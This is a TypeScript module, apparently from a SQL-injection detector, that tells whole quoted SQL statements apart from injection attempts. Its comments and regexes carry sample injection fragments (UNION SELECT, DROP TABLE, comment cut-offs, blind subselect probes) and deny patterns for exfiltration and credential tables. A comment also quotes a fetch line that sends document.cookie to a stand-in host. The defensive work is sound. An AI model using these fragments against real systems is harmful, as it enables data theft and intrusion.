/**
 * Code quoted whole is not an injection (issue 14, session 20: the `tech-discussion` benign family).
 *
 * A BI tool's query field, a gist of a query, a forum title asking why `SELECT count(*) FROM orders` is
 * slow, an analytics event recording the BI page's URL: each holds a whole SQL statement, and the model
 * reads its keywords as an attack. An injection is not a statement but a break out of the statement the
 * application builds: a quote closed and then SQL (`x' UNION SELECT …`, `'; DROP TABLE …`), a comment
 * cutting the rest off, a tautology, a stacked statement, a time or file function. A value that is one
 * well-formed statement from its first character — every string literal opened where a literal can
 * stand (after `=`, `(`, `,`, `LIKE`, `IN` …) and closed before an operator, keyword or the end, no
 * literal holding SQL, no comment, no second statement, no tautology, no time, file, command or server
 * function, brackets balanced and nothing left dangling for the application's statement to finish —
 * cannot leave a string or a number it is put into: its first quote, which would close the application's
 * literal, opens one of its own after an operator, so what follows it in the application's
 * statement is that literal's text, which holds no SQL. (`SELECT 1 WHERE a = ' UNION SELECT pw FROM users
 * WHERE b = '` turns literal and code around, and is kept: its literal holds SQL.)
 *
 * `isWholeSqlStatement` judges a whole value; `maskQuotedCode` takes such statements out of the code
 * spans of prose (markdown backticks and fences, `<code>`) and the block delimiters of WordPress's editor
 * (`<!-- wp:paragraph -->`, `<!-- /wp:code -->`, serialization the editor writes around every block), so
 * the model scores the prose around them and whatever else the value holds.
 */

import { hasTautology } from './sql-tautology.js';
import { isQuotedProgram } from './quoted-program.js';
import { isQuotedStackTrace } from './stack-frames.js';

/**
 * A Jupyter/IPython SQL cell magic on its own first line, with at most a connection or variable argument (no quote,
 * no space inside one): `%%sql`, `%%sql postgresql://analyst@db/shop`, `%%bigquery df`; or, in a whitespace-folded
 * form, followed by the statement on the same line.
 */
const SQL_CELL_MAGIC = /^%%?(?:sql|bigquery|sparksql|trino|snowflake|duckdb)(?:[ \t]*\r?\n|[ \t]+(?=(?:select|with|explain|update|delete|insert|create|alter|show)\b)|(?:[ \t]+[\w:/@.=$-]+){1,3}[ \t]*\r?\n)/i;

/**
 * Comment lines a SQL editor or an exercise keeps above the statement (`-- customers who never ordered`): whole lines
 * of plain words before the statement's first one (blind benign set 17's judge/3, read: a SQL exercise's answer, 0.71
 * with 9000102's alert). A comment that cuts off what follows it (`admin'--`) ends a line, it does not start one; and
 * the comment's text may hold only words, numbers, spaces and `.,:()/?!-`, so no markup, quote or template rides in it
 * unscored.
 */
const LEADING_COMMENT_LINES = /^(?:[ \t]*--[ \t]*[\p{L}\p{N} .,:()/?!-]{0,200}\r?\n)+/u;

/** A statement's first words. */
const STATEMENT_START = /^\s*(?:select|with\s+\w+\s+as\s*\(|explain(?:\s+analy[sz]e)?\s+select|update\s+\w+\s+set|delete\s+from|insert\s+into|create\s+(?:unique\s+)?index|alter\s+table|show\s+(?:tables|columns|index|create\s+table))\b/i;

/**
 * What a statement sent to a SQL endpoint as an exploit does and a quoted one about the application's
 * tables does not: reach out of the database (ClickHouse's `url()`, `file()`, `remote()`, `s3()` table
 * functions, `INSERT INTO FUNCTION`, a program) or read credentials and server tables (`system.users`,
 * `mysql.user`, `pg_shadow`, `wp_users`, a password or secret column). The exploit generator's ClickHouse
 * HTTP and WP Automatic `csv.php` requests send such whole statements. Also a browser's objects a script reads or sends
 * (`document.cookie`, `localStorage`, `navigator.…`, `window.…`): no table's column, but a script glued into the
 * statement (session 33, nb33: a `%%sql` cell with `fetch('https://x.example/c?'+document.cookie)` after its `ORDER BY`
 * was a whole statement).
 */
const REACHES_OUT =
  /\bdocument\.(?:cookie|domain|location|write)\b|\b(?:window|navigator|localstorage|sessionstorage)\.\w|\b(?:url|file|remote|remotesecure|s3|s3cluster|hdfs|mysql|postgresql|jdbc|odbc|executable|input|azureblobstorage|gcs|urlcluster|cluster)\s*\(|\binto\s+function\b|\b(?:system|mysql|sys|pg_catalog\.pg_(?:shadow|authid)|information_schema\.user_privileges)\.\w|\b(?:pg_shadow|pg_authid|sql_logins|wp_users|user_pass|passwd|password\w*|pwd|pass_hash|secret\w*|api_?key|token)\b/i;
/**
 * What no quoted statement needs and injection shapes use: a comment, a time, file, command or server
 * function, a server variable, hex or char() spelling, a file export, `UNION SELECT NULL`, a stacked
 * statement (a `;` before the end). Tautologies are looked for apart (`hasTautology`).
 */
const NOT_A_QUOTATION =
  /--|\/\*|\*\/|#|@@|\b(?:sleep|pg_sleep|benchmark|waitfor|load_file|outfile|dumpfile|xp_\w+|sp_\w+|exec(?:ute)?|utl_\w+|dbms_\w+|lo_import|copy\s+\w+\s+(?:from|to)\s+program|char|chr|concat|extractvalue|updatexml|version|user|current_user|system_user|database|schema|sysdate|into\s+(?:out|dump)file|0x[0-9a-f]+|union\s+(?:all\s+)?select\s+null)\b|;\s*\S/i;

/**
 * A number compared with a sub-select (`AND 1=(SELECT COUNT(*) FROM information_schema.tables)`): a boolean-based blind
 * probe appended to a statement, which a statement about the application's tables writes column-first. Session 33
 * (adv33, datasets/shape-carriers.ts): appended to a quoted `SELECT … GROUP BY day` it kept the whole out of the model.
 */
const CONSTANT_AGAINST_SUBSELECT = /(?:^|[^\w.])\d+\s*(?:=|<>|!=|<=|>=|<|>)\s*\(\s*select\b/i;

/** A statement ending on a keyword or operator: the rest would come from the application's statement. */
const DANGLING_END = /(?:\b(?:where|and|or|not|from|select|by|on|join|union|all|having|limit|offset|set|values|like|in|is|as|into|when|then|else|between)|[=<>!,(+*/%|-])\s*;?\s*$/i;

/** Tokens after which a string literal may open. */
const LITERAL_OPENERS = new Set(['=', '(', ',', '<', '>', '!', '|', '+', '*', '/', '%', 'like', 'ilike', 'in', 'interval', 'then', 'else', 'is', 'values', 'between', 'and', 'or', 'when', 'not', 'date', 'timestamp', 'time', 'set', 'any', 'all', 'escape', 'trunc']);

/** SQL inside a literal: what a statement turned around carries. */
const SQL_IN_LITERAL = /\b(?:select|union|from|where|insert|update|delete|drop|and|or|sleep|exec|having|order\s+by|group\s+by)\b|[;'"`\\]/i;

/** The word or operator character before position `i` (whitespace skipped), lower-cased. */
function tokenBefore(text: string, i: number): string {
  let j = i - 1;
  while (j >= 0 && /\s/.test(text[j])) j--;
  if (j < 0) return '';
  if (!/\w/.test(text[j])) return text[j];
  let k = j;
  while (k > 0 && /\w/.test(text[k - 1])) k--;
  return text.slice(k, j + 1).toLowerCase();
}

/** Whether the character after a closing quote at `i` may follow a literal: an operator, a keyword, a bracket, the end. */
function mayFollowLiteral(text: string, i: number): boolean {
  let j = i + 1;
  if (j < text.length && !/[\s),;:|=<>!+\-*/%]/.test(text[j])) return false;
  while (j < text.length && /\s/.test(text[j])) j++;
  return j >= text.length || !/['"`]/.test(text[j]);
}

/**
 * Whether `text` is one whole SQL statement, as quoted: a statement's first words, no comment, no second
 * statement, no tautology, no time, file or server function, and every string literal opened after an
 * operator or keyword, closed before one, holding no SQL (see the module comment). At most 2,000 characters.
 */
export function isWholeSqlStatement(text: string): boolean {
  // A notebook cell runs its statement under a SQL magic line (`%%sql`, `%sql`, `%%bigquery df`): the statement is what follows it.
  if (text.charCodeAt(0) === 37 /* % */) {
    const magic = SQL_CELL_MAGIC.exec(text);
    if (magic !== null) text = text.slice(magic[0].length);
  }
  if (text.charCodeAt(0) === 45 /* - */ || text.charCodeAt(0) === 32) {
    const comments = LEADING_COMMENT_LINES.exec(text);
    if (comments !== null) text = text.slice(comments[0].length);
  }
  if (text.length > 2000 || !STATEMENT_START.test(text) || NOT_A_QUOTATION.test(text) || REACHES_OUT.test(text) || CONSTANT_AGAINST_SUBSELECT.test(text)) return false;
  // A query names the table it reads: `select tables` or `SELECT 1` is words or a probe, not a quotation.
  if (/^\s*(?:select|with|explain)\b/i.test(text) && !/\bfrom\s+[\w"$]/i.test(text)) return false;
  // Literals.
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (c === '`' || c === '\\') return false;
    if (c !== "'") continue;
    if (!LITERAL_OPENERS.has(tokenBefore(text, i))) return false;
    const close = text.indexOf("'", i + 1);
    if (close < 0) return false;
    if (SQL_IN_LITERAL.test(text.slice(i + 1, close))) return false;
    if (!mayFollowLiteral(text, close)) return false;
    i = close;
  }
  // Outside its literals a quoted statement is complete and well formed: its brackets balance, it does not end
  // on a keyword or operator the application's statement would continue (`select sin(1),2 from bar where`,
  // libinjection's fragments), and no number is glued to a name (`information_schema 9.e.table_name`).
  const code = text.replace(/'[^']*'/g, "''");
  let depth = 0;
  for (let i = 0; i < code.length; i++) {
    if (code[i] === '(') depth++;
    else if (code[i] === ')' && --depth < 0) return false;
  }
  if (depth !== 0 || DANGLING_END.test(code) || /\b\d+(?:\.\d*)?[a-z_]/i.test(code.replace(/\b\d+(?:\.\d+)?e[+-]?\d+\b/gi, '0'))) return false;
  // Quoted identifiers: balanced, and holding a name.
  const dq = text.match(/"[^"]*"|"/g);
  if (dq !== null && dq.some((q) => q === '"' || !/^"[\w .$-]{1,64}"$/.test(q))) return false;
  return !hasTautology(text);
}


/**
 * A SQL statement sketched with its clauses elided (`SELECT … WHERE … LIKE '%검색어%'`, `UPDATE ... SET ...`): a
 * forum question's outline of the query it asks about (blind benign set 3's Korean title, 0.96). An elision
 * standing for a clause's operand — `…` or `...` right after `SELECT`, `WHERE`, `FROM`, `SET`, `BY`, `AND`,
 * `OR`, `ON`, `JOIN`, `VALUES`, `INTO`, `HAVING` — is a syntax error in every dialect (MySQL reads `…` as an
 * unknown column), so the outline cannot run wherever it is put. It holds no comment, `;`, backtick,
 * backslash, server variable, time/file/server function (`NOT_A_QUOTATION`), tautology or literal holding SQL,
 * and its quotes pair up.
 */
const SKETCH_START = /^\s*(?:select|update|delete|insert|with|explain)\b/i;
const SKETCH_ELISION = /\b(?:select|where|from|set|by|and|or|on|join|values|into|having)\s+(?:…|\.\.\.)/i;

export function isSqlSketch(code: string): boolean {
  if (code.length > 400 || !SKETCH_START.test(code) || !SKETCH_ELISION.test(code)) return false;
  if (/[;`\\#]|--|\/\*|\*\//.test(code) || NOT_A_QUOTATION.test(code) || hasTautology(code)) return false;
  const literals = code.match(/'[^']*'|'/g) ?? [];
  for (const literal of literals) if (literal === "'" || SQL_IN_LITERAL.test(literal.slice(1, -1))) return false;
  return !/"/.test(code.replace(/"[\w .$-]{1,64}"/g, ''));
}

/** A parenthesized aside of prose (`(SELECT … WHERE …)`), to be judged as a sketch. */
const PAREN_ASIDE = /\(([^()]{1,400})\)/g;
/**
 * A literal that holds only an elision, maybe between LIKE wildcards (`LIKE '%…%'`, `= '...'`), standing apart: a
 * placeholder for a value the sentence does not give (the same question's body, `LIKE '%...%' 검색은 풀스캔이네요`,
 * 0.89). Taken out, the quotes go with it; the prose around it is scored.
 */
const ELIDED_LITERAL = /(^|[\s(=,])(['"])%?(?:…|\.\.\.)%?\2(?=$|[\s),.;:?!])/g;

/** Code spans of prose: a fenced block (its language tag handled apart), a backtick span, a `<code>` element (entities already decoded in the form). */
const CODE_SPAN = /```([\s\S]*?)```|`([^`\n]+)`|<code(?:\s[^<>]*)?>([^<]*)<\/code>/g;

/** The block delimiters of WordPress's editor (`<!-- wp:heading {"level":2} -->`, `<!-- /wp:code -->`): attributes without markup or comment syntax. */
const BLOCK_DELIMITER = /<!-- \/?wp:[a-z][a-z0-9-]*(?:\/[a-z][a-z0-9-]*)?(?: \{(?:[^<>{}-]|-(?!-)|\{[^<>{}-]*\})*\})? \/?-->/g;

/**
 * What `maskQuotedCode` took out besides SQL: `multiLine` is set when a code span held a quotation that needs its
 * lines to be recognized — a whole program (quoted-program.ts) or a printed stack trace (stack-frames.ts) — so
 * that the whitespace decoder's twin of the text, which holds it on one line, is known for what it is.
 */
export interface MaskedCode {
  multiLine: boolean;
}

/**
 * The text with each code span that holds one whole SQL statement, sketched statement or program, each parenthesized
 * sketch (isSqlSketch) and each literal holding only an elision (`'%…%'`), taken out (replaced by a space) and
 * the editor's block delimiters removed; the text itself when there is neither. What is left is scored.
 * `found.multiLine` is set when a program or a printed stack trace was taken out (its whitespace-folded twin holds it on one line).
 */
export function maskQuotedCode(text: string, found?: MaskedCode): string {
  let out = text;
  if (out.includes('<!-- ') && out.includes('wp:')) out = out.replace(BLOCK_DELIMITER, '');
  // A sketched statement in a parenthesized aside of prose (isSqlSketch), a literal holding only an elision.
  if (out.includes('…') || out.includes('...')) {
    if (out.includes('(')) out = out.replace(PAREN_ASIDE, (aside, inner: string) => (isSqlSketch(inner) ? ' ' : aside));
    // An elided literal (ELIDED_LITERAL).
    out = out.replace(ELIDED_LITERAL, '$1 ');
  }
  if (out.includes('`') || out.includes('<code')) {
    out = out.replace(CODE_SPAN, (span, fenced: string | undefined, inline: string | undefined, element: string | undefined) => {
      const code = (fenced ?? inline ?? element ?? '').trim();
      if (isWholeSqlStatement(code) || isSqlSketch(code)) return ' ';
      // A fence's language tag (```sql), on its own line or, in a whitespace-folded form, before the code.
      const untagged = fenced === undefined ? code : code.replace(/^[\w+-]+\s+/, '');
      if (untagged !== code && isWholeSqlStatement(untagged)) return ' ';
      // A printed stack trace in a bug report's fence is output (stack-frames.ts).
      if (fenced !== undefined && isQuotedStackTrace(fenced.trim())) {
        if (found !== undefined) found.multiLine = true;
        return ' ';
      }
      if (isQuotedProgram(code) || (untagged !== code && isQuotedProgram(untagged))) {
        if (found !== undefined) found.multiLine = true;
        return ' ';
      }
      return span;
    });
  }
  return out;
}
